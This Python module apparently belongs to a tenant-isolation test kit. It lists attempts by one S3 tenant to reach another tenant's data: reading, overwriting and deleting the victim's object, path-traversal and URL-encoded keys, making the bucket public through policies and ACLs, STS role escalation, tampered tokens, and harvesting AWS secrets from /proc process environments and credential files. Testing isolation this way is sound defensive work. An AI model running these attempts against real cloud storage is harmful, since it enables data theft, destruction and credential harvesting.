"""What a job of tenant `ac` tries on the storage, with the credentials that it was given.

Its own prefix is `tenants/ac/`; the victim's is `tenants/acme/`, which begins with the same letters.
"""

from __future__ import annotations

import os
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
from botocore.auth import S3SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.config import Config

from attack_kit.attempts import Attempt

BUCKET = "raytenant"
OWN = "tenants/ac"
VICTIM = "tenants/acme"
TARGET = f"{VICTIM}/secret.txt"
ROLE = "arn:aws:iam::000000000000:role/tenant-jobs"
SIGNED = Config(signature_version="s3v4", retries={"total_max_attempts": 1})
OPEN_TO_ALL = (
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":'
    f'["arn:aws:s3:::{BUCKET}/*"]}}]}}'
)


def attempts() -> Iterator[Attempt]:
    s3 = boto3.client("s3", config=SIGNED)
    sts = boto3.client("sts", config=Config(retries={"total_max_attempts": 1}))
    s3.put_object(Bucket=BUCKET, Key=f"{OWN}/mine.txt", Body=b"mine")
    target = {"Bucket": BUCKET, "Key": TARGET}
    source = f"{BUCKET}/{TARGET}"
    yield Attempt("read the victim's object", lambda: s3.get_object(**target)["Body"].read())
    yield Attempt("look at its head", lambda: s3.head_object(**target))
    yield Attempt("read a range of it", lambda: s3.get_object(**target, Range="bytes=0-3")["Body"].read())
    yield Attempt("overwrite it", lambda: s3.put_object(**target, Body=b"owned"))
    yield Attempt("write beside it", lambda: s3.put_object(Bucket=BUCKET, Key=f"{VICTIM}/new", Body=b"x"))
    yield Attempt("delete it", lambda: s3.delete_object(**target))
    yield Attempt("delete it in a batch", lambda: _batch_delete(s3))
    yield Attempt("copy it into the own prefix", lambda: _copy(s3, source, f"{OWN}/stolen"))
    yield Attempt("copy an own object over it", lambda: _copy(s3, f"{BUCKET}/{OWN}/mine.txt", TARGET))
    yield Attempt("begin a multipart upload over it", lambda: s3.create_multipart_upload(**target))
    yield Attempt("copy it as a part of an own upload", lambda: _copy_part(s3, source))
    yield Attempt("read its tags", lambda: s3.get_object_tagging(**target))
    yield Attempt("set its tags", lambda: s3.put_object_tagging(**target, Tagging={"TagSet": []}))
    yield Attempt("read its ACL", lambda: s3.get_object_acl(**target))
    yield Attempt("make it public by an ACL", lambda: s3.put_object_acl(**target, ACL="public-read"))
    yield from _listings(s3)
    yield from _addresses(s3)
    yield from _paths(s3)
    yield from _buckets(s3)
    yield from _identities(sts)
    yield from _of_the_node()


def _batch_delete(s3: Any) -> Any:
    answer = s3.delete_objects(Bucket=BUCKET, Delete={"Objects": [{"Key": TARGET}]})
    if answer.get("Errors"):
        raise PermissionError(answer["Errors"][0]["Code"])
    return answer


def _copy(s3: Any, source: str, key: str) -> Any:
    return s3.copy_object(Bucket=BUCKET, Key=key, CopySource=source)


def _copy_part(s3: Any, source: str) -> Any:
    upload = s3.create_multipart_upload(Bucket=BUCKET, Key=f"{OWN}/parts")["UploadId"]
    try:
        return s3.upload_part_copy(
            Bucket=BUCKET, Key=f"{OWN}/parts", UploadId=upload, PartNumber=1, CopySource=source
        )
    finally:
        s3.abort_multipart_upload(Bucket=BUCKET, Key=f"{OWN}/parts", UploadId=upload)


def _listings(s3: Any) -> Iterator[Attempt]:
    for prefix, what in (
        (f"{VICTIM}/", "the victim's prefix"),
        (VICTIM, "the victim's prefix without its slash"),
        (OWN, "the own prefix without its slash, which begins the victim's"),
        ("tenants/", "all tenants"),
        ("", "the whole bucket"),
    ):
        yield Attempt(f"list {what}", lambda prefix=prefix: s3.list_objects_v2(Bucket=BUCKET, Prefix=prefix))
    yield Attempt(
        "list the bucket by folders", lambda: s3.list_objects_v2(Bucket=BUCKET, Prefix="", Delimiter="/")
    )
    yield Attempt("list in the old way", lambda: s3.list_objects(Bucket=BUCKET, Prefix=f"{VICTIM}/"))
    yield Attempt(
        "list from the victim's keys on",
        lambda: s3.list_objects_v2(Bucket=BUCKET, Prefix=OWN, StartAfter=f"{VICTIM}/"),
    )
    yield Attempt("list versions", lambda: s3.list_object_versions(Bucket=BUCKET, Prefix=f"{VICTIM}/"))
    yield Attempt("list uploads under way", lambda: s3.list_multipart_uploads(Bucket=BUCKET))


def _addresses(s3: Any) -> Iterator[Attempt]:
    """Presigned with the own credentials: they give what these may, and no more."""
    for operation, method in (("get_object", "GET"), ("put_object", "PUT"), ("delete_object", "DELETE")):
        url = s3.generate_presigned_url(operation, Params={"Bucket": BUCKET, "Key": TARGET})
        yield Attempt(f"presign a {method} of it", lambda url=url, method=method: _open(url, method))
    post = s3.generate_presigned_post(BUCKET, TARGET)
    yield Attempt("presign a form upload over it", lambda: _post(post))


def _post(post: dict[str, Any]) -> bytes:
    line = "--b\r\n"
    fields = "".join(
        f'{line}Content-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in post["fields"].items()
    )
    body = (
        f'{fields}{line}Content-Disposition: form-data; name="file"; filename="f"\r\n\r\nowned\r\n--b--\r\n'
    )
    request = urllib.request.Request(post["url"], data=body.encode(), method="POST")
    request.add_header("Content-Type", "multipart/form-data; boundary=b")
    return _read(request)


def _paths(s3: Any) -> Iterator[Attempt]:
    """Keys and paths that something on the way might take for the victim's."""
    for key in (f"{OWN}/../acme/secret.txt", f"{OWN}//../acme/secret.txt", f"{OWN}/./../acme/secret.txt"):
        yield Attempt(f"read the key {key}", lambda key=key: _not_empty(s3, key))
    for path in (
        f"{OWN}/../acme/secret.txt",
        f"{OWN}/%2e%2e/acme/secret.txt",
        f"{OWN}/..%2Facme%2Fsecret.txt",
        f"{OWN}%2F..%2Facme%2Fsecret.txt",
        f"{OWN}/..;/acme/secret.txt",
        "tenants//acme/secret.txt",
        "tenants%2Facme/secret.txt",
    ):
        yield Attempt(f"ask for the path /{path}", lambda path=path: _signed(s3, path))


def _not_empty(s3: Any, key: str) -> bytes:
    body: bytes = s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    return body


def _signed(s3: Any, path: str) -> bytes:
    """A GET of exactly this path, signed as it is."""
    url = f"{s3.meta.endpoint_url}/{BUCKET}/{path}"
    request = AWSRequest("GET", url, headers={"x-amz-content-sha256": "UNSIGNED-PAYLOAD"})
    credentials = boto3.session.Session().get_credentials().get_frozen_credentials()
    S3SigV4Auth(credentials, "s3", "us-east-1").add_auth(request)
    return _read(urllib.request.Request(url, headers=dict(request.headers)))


def _buckets(s3: Any) -> Iterator[Attempt]:
    yield Attempt("list buckets", lambda: _some(s3.list_buckets()["Buckets"]))
    yield Attempt("make a bucket", lambda: s3.create_bucket(Bucket="of-the-attacker"))
    yield Attempt("delete the bucket", lambda: s3.delete_bucket(Bucket=BUCKET))
    yield Attempt("read the bucket's policy", lambda: s3.get_bucket_policy(Bucket=BUCKET))
    yield Attempt(
        "open the bucket to all by a policy", lambda: s3.put_bucket_policy(Bucket=BUCKET, Policy=OPEN_TO_ALL)
    )
    yield Attempt("make the bucket public", lambda: s3.put_bucket_acl(Bucket=BUCKET, ACL="public-read-write"))
    yield Attempt("read the bucket's ACL", lambda: s3.get_bucket_acl(Bucket=BUCKET))


def _some(found: list[Any]) -> list[Any]:
    """An empty list gives nothing away."""
    if not found:
        raise PermissionError("an empty list")
    return found


def _identities(sts: Any) -> Iterator[Attempt]:
    yield Attempt(
        "assume the role anew, whole", lambda: sts.assume_role(RoleArn=ROLE, RoleSessionName="again")
    )
    yield Attempt(
        "assume it with a wider policy",
        lambda: sts.assume_role(
            RoleArn=ROLE, RoleSessionName="again", Policy=OPEN_TO_ALL.replace('"Principal":"*",', "")
        ),
    )
    yield Attempt("ask STS for another token", lambda: sts.get_session_token())
    yield Attempt("ask STS for a federated user", lambda: sts.get_federation_token(Name="mallory"))
    own = boto3.session.Session().get_credentials().get_frozen_credentials()
    for what, key, secret, token in (
        ("without the session token", own.access_key, own.secret_key, None),
        ("with a tampered token", own.access_key, own.secret_key, own.token[:-6] + "AAAAAA"),
        ("with a guessed key", "ASIAGUESSED", "guessed", own.token),
    ):
        client = _client(key, secret, token)
        yield Attempt(f"read it {what}", lambda client=client: client.get_object(Bucket=BUCKET, Key=TARGET))
    endpoint = os.environ["AWS_ENDPOINT_URL"]
    yield Attempt("read it as nobody", lambda: _open(f"{endpoint}/{BUCKET}/{TARGET}"))


def _client(key: str, secret: str, token: str | None) -> Any:
    return boto3.client(
        "s3", aws_access_key_id=key, aws_secret_access_key=secret, aws_session_token=token, config=SIGNED
    )


def _of_the_node() -> Iterator[Attempt]:
    yield Attempt("find a key of the node in its processes", lambda: _some(_keys_in_environments()))
    yield Attempt("find a key of the node in its files", lambda: _some(_key_files()))


def _keys_in_environments() -> list[str]:
    """Static keys in the environment of any process of Ray's own."""
    found = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            command = (environ.parent / "cmdline").read_bytes()
            if b"raylet" in command or b"gcs_server" in command or b"dashboard" in command:
                found += [
                    part.decode()
                    for part in environ.read_bytes().split(b"\0")
                    if part.startswith(b"AWS_SECRET")
                ]
        except OSError:
            continue
    return found


def _key_files() -> list[str]:
    home = Path.home()
    return [str(path) for path in (home / ".aws/credentials", home / ".boto") if path.exists()]


def _open(url: str, method: str = "GET") -> bytes:
    data = b"owned" if method == "PUT" else None
    return _read(urllib.request.Request(url, data=data, method=method))


def _read(request: urllib.request.Request) -> bytes:
    with urllib.request.urlopen(request, timeout=10) as answer:
        body: bytes = answer.read()
    return body
